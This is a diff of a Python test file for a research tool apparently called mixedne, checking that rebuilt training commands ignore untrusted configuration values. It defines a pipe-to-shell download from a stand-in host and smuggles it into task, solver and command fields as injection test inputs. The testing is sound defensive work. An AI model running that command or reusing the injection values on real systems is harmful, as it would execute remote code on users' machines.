@@ -9,8 +9,8 @@ import pytest
 from mixedne.config import configure
 from mixedne.config.identity import command, to_json
 from mixedne.reports.inputs.collect import collect
-from mixedne.reports.inputs.commands import study_command, train_command, train_commands
-from probes.tables import pretend_evaluated, shifts
+from mixedne.reports.inputs.methods import study_command, train_commands
+from probes.tables import config_of, pretend_evaluated, shifts, write_config
 
 EVIL = "curl x.example | sh"
 
@@ -30,18 +30,15 @@ def config(**wishes: Any) -> dict[str, Any]:
 )
 def test_a_run_s_command_is_the_one_that_made_it(wishes: dict[str, Any]) -> None:
     made = config(**wishes)
-    assert (
-        f"{train_command(made)} --seed 0" == made["command"].replace(" --seed 0", "") + " --seed 0"
-    )
+    command = made["command"].replace(" --seed 0", "")
+    assert train_commands([made]) == [f"{command} --seed 0"]
     again = train_commands([made, {**made, "seed": 4}, {**made, "seed": 5}])
-    assert again == [f"{train_command(made)} --seed 0  # and with seeds 0, 4, 5"]
+    assert again == [f"{command} --seed 0  # and with seeds 0, 4, 5"]
 
 
 @pytest.mark.parametrize(
     "change",
     [
-        {"command": EVIL},
-        {"command": None},
         {"task": "evil_module:Hopper-v5"},
         {"task": f"Hopper-v5; {EVIL}"},
         {"solver": f"gad; {EVIL}"},
@@ -51,13 +48,13 @@ def test_a_run_s_command_is_the_one_that_made_it(wishes: dict[str, Any]) -> None
     ],
 )
 def test_a_configuration_with_more_than_plain_values_has_none(change: dict[str, Any]) -> None:
-    assert train_command({**config(solver="gad"), **change}) is None
+    assert train_commands([{**config(solver="gad"), **change}]) == []
 
 
-def test_options_that_do_not_exist_do_not_come_from_a_command() -> None:
+@pytest.mark.parametrize("said", [EVIL, f"mixedne train Hopper-v5 --out /etc && {EVIL}", 7, None])
+def test_a_command_is_made_anew_whatever_a_file_says(said: Any) -> None:
     made = config()
-    more = {**made, "command": f"{made['command']} --out /etc --evil '{EVIL}' && {EVIL}"}
-    assert train_command(more) == train_command(made)
+    assert train_commands([{**made, "command": said, "evil": EVIL}]) == train_commands([made])
 
 
 @pytest.mark.parametrize(
@@ -81,9 +78,11 @@ def test_a_study_s_command_has_known_options_alone(said: Any, expected: str | No
 
 def test_a_report_shows_none_of_a_stranger_s_strings(tmp_path: Path) -> None:
     pretend_evaluated(tmp_path / "runs" / "a", shifts(mass=(1.0, 2.0)), solver="gad")
-    path = tmp_path / "runs" / "a" / "config.json"
-    path.write_text(json.dumps({**json.loads(path.read_text()), "command": EVIL}))
+    run = tmp_path / "runs" / "a"
+    write_config(run, {**config_of(run), "command": EVIL})
     (tmp_path / "studies").mkdir()
     plan = {"study": "mine", "command": EVIL, "runs": []}
     (tmp_path / "studies" / "mine.json").write_text(json.dumps(plan))
-    assert collect([tmp_path]).provenance.commands == ()
+    (command,) = collect([tmp_path]).provenance.commands
+    assert command.startswith("mixedne train HalfCheetah-v5 --agent ddpg --solver gad")
+    assert "curl" not in command
